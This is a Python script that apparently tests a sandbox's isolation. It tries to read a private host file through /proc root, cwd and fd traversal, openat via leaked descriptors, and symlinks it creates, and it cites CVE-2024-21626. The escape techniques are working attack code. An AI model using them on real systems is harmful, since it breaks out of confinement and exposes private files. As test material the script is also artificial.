"""Tries to leave through descriptors and links: /proc/N/root, /proc/N/cwd, open folders, and links that it makes."""

SOURCE = "CVE-2024-21626 (a descriptor of the host's folder that was left open)"
SUCCESS = "a canary in the outputs"

# %%
import contextlib
import os

diary, ways, refused = "@HOME@/private/diary.txt", [], {}
for pid in ("self", "thread-self", 1, os.getppid(), "@PID@", *range(2, 20)):
    ways += [
        f"/proc/{pid}/root",
        f"/proc/{pid}/cwd",
        f"/proc/{pid}/cwd/../../../../..",
        f"/proc/{pid}/root/proc/1/root",
    ]
    ways += [f"/proc/{pid}/fd/{number}/../../../../../.." for number in range(20)]
    ways += [f"/proc/{pid}/task/{pid}/root", f"/proc/{pid}/map_files"]
for number in range(256):
    with contextlib.suppress(OSError):
        ways.append(f"{os.readlink(f'/proc/self/fd/{number}')}/..")
        for steps in ("", "../" * 30):
            with contextlib.suppress(NotADirectoryError):
                print(os.read(os.open(steps + diary[1:], os.O_RDONLY, dir_fd=number), 100))
for place, target in (("/tmp/link", "/proc/1/root"), ("link", "@HOME@"), ("/dev/shm/link", "/../../..")):
    os.symlink(target, place)
    ways += [place, place + "/../../../.."]
for way in (*ways, "", "/..", "/tmp/../../.."):
    for path in (f"{way}{diary}", f"{way}/private/diary.txt"):
        try:
            print(open(path).read())
        except OSError as error:
            refused[error.strerror] = refused.get(error.strerror, 0) + 1
print(refused, "attempted")
